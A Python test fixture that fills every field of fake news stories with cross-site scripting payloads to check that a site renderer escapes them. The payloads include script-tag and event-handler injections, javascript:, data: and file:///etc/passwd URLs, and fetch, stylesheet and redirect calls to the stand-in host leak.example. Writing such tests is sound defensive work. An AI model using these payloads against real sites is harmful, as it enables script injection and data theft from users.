"""Three hundred words that try to become markup, script or an address. Written for this project."""

from tests.render.site.editions import Told, edition, story
from topicwire.model.hub import Edition

ACTS = (
    "window.__hit=1",
    "parent.__hit=1",
    "document.body.dataset.hit=1",
    "fetch('https://leak.example/')",
)
SHAPES = (
    "<script>{act}</script>",
    "</title><script>{act}</script>",
    "</script><script>{act}</script>",
    '"><img src=x onerror="{act}">',
    "'><svg onload='{act}'>",
    "<img src=x onerror={act}//",
    "<svg><script>{act}</script></svg>",
    "<math><mtext></mtext><script>{act}</script></math>",
    "--><script>{act}</script><!--",
    "]]><script>{act}</script>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    '<a href="javascript:{act}">go</a>',
    "javascript:{act}",
    "<body onload={act}>",
    "<style>*{{background:url(https://leak.example/)}}</style>",
    "<link rel=stylesheet href=https://leak.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://leak.example/'>",
    "<base href=https://leak.example/>",
    "<form action=https://leak.example/><button autofocus onfocus={act}>x",
    "{{{{ {act} }}}}",
    "{{% include 'layout.html' %}}{act}",
    "${{{act}}} #{{{act}}}",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "\u2028<script>{act}</script>\u2029",
    "\u202etpircs<script>{act}</script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<ScRiPt/x>{act}</sCrIpT>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<textarea></textarea><script>{act}</script>",
    "<noscript><p title='</noscript><script>{act}</script>'>",
    "<template><script>{act}</script></template>",
    "<!--<script>{act}//-->",
    "<x style=animation-name:x onanimationend={act}>",
    "%3Cscript%3E{act}%3C/script%3E",
    "\x00<script>{act}</script>".replace("\x00", ""),
    "` onmouseover={act} x=`",
    "' autofocus onfocus='{act}",
    '" autofocus onfocus="{act}',
    "</style><script>{act}</script>",
    '{{"@type":"x"}}</script><script>{act}</script>',
    "<object data=javascript:{act}></object>",
    "<embed src=javascript:{act}>",
    "<input type=image src=x onerror={act}>",
    "<marquee onstart={act}>x</marquee>",
    "<select autofocus onfocus={act}>",
    "<keygen autofocus onfocus={act}>",
    "<audio src=x onerror={act}>",
    "<table background=javascript:{act}>",
    "<a\thref=\n'javascript:{act}'>x</a>",
    "<div/onpointerenter={act}>x</div>",
    "<slot onslotchange={act}></slot>",
    "<portal src=javascript:{act}>",
    "<image href=x onerror={act}>",
    "<svg><a xlink:href='javascript:{act}'><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{act}></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><foreignObject><script>{act}</script></foreignObject></svg>",
    "<html onclick={act}>",
    "<frameset onload={act}>",
    "<button formaction=javascript:{act}>x</button>",
    "<p hidden onbeforematch={act}>",
    "<plaintext>{act}",
    "<xmp><script>{act}</script></xmp>",
    "<listing>&lt;script&gt;{act}</listing>",
    "<option><script>{act}</script>",
    "<title><script>{act}</script></title>",
    "<div popover id=x onbeforetoggle={act}>",
    "<area href=javascript:{act}>",
    "<dialog open onclose={act}>",
    "<progress onclick={act} value=1>",
    "]]>'\"><script>{act}</script>",
    "*/{act}/*",
)
TITLES = tuple(shape.format(act=act) for shape in SHAPES for act in ACTS)
ADDRESSES = (
    "javascript:window.__hit=1",
    "JaVaScRiPt:window.__hit=1",
    "java\tscript:window.__hit=1",
    " javascript:window.__hit=1",
    "data:text/html,<script>window.__hit=1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//leak.example/x",
    "/relative",
    "https:leak.example",
    "https://",
    "https://[::1",
    "https://good.example\\@leak.example/",
    "https://good.example/\n<script>",
    "blob:https://leak.example/1",
    "intent://x",
)


def hostile() -> Edition:
    """Freeze stories whose every word is hostile: titles, excerpts, authors, outlets, topics, verdicts, addresses."""
    groups = []
    for number, words in enumerate(TITLES):
        address = ADDRESSES[number % len(ADDRESSES)]
        lead = Told(title=words, outlet=words, excerpt=f"{words} again", authors=(words,), hours=number, url=address)
        other = Told(title=words, outlet=f"{words}2", hours=number + 0.5, url=address, language='en"><script>')
        groups.append(story((lead, other), quality=80, topics=(words, "Drones")))
    return edition(groups, name="hostile")
